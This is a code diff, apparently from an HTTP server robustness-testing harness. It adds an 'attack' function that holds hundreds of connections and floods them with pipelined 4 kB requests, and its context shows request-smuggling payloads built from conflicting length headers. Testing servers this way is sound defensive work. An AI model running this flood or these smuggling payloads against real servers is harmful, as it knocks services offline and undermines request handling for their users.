@@ -100,6 +100,34 @@ def pipeline(world, size):
         io.close()
 
 
+@attack("status pipelined, a head a read", "requests of 4 kB that are there before others are answered, without end")
+def reads(world, size):
+    head = b"GET /x HTTP/1.1\r\nHost: a\r\nX-Pad: "
+    text = (head + b"a" * (4092 - len(head)) + b"\r\n\r\n") * 16
+    held, end = [], time.monotonic() + size.seconds
+    while time.monotonic() < end:
+        while len(held) < 400 and time.monotonic() < end:
+            try:
+                held.append([connect(ATTACKERS[len(held) % 64], timeout=0.5), b""])
+                held[-1][0].setblocking(False)
+            except OSError:
+                break
+        for one in list(held):
+            try:
+                rest = one[1] or text
+                one[1] = rest
+                one[1] = rest[one[0].send(rest):]
+                if not one[0].recv(1 << 20):
+                    raise ConnectionError("closed")
+            except BlockingIOError:
+                pass
+            except OSError:
+                one[0].close()
+                held.remove(one)
+    for io, _ in held:
+        io.close()
+
+
 SMUGGLED = [
     ("CL and TE", b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"),
     ("two CL", b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 0\r\nContent-Length: 30\r\n\r\n"),
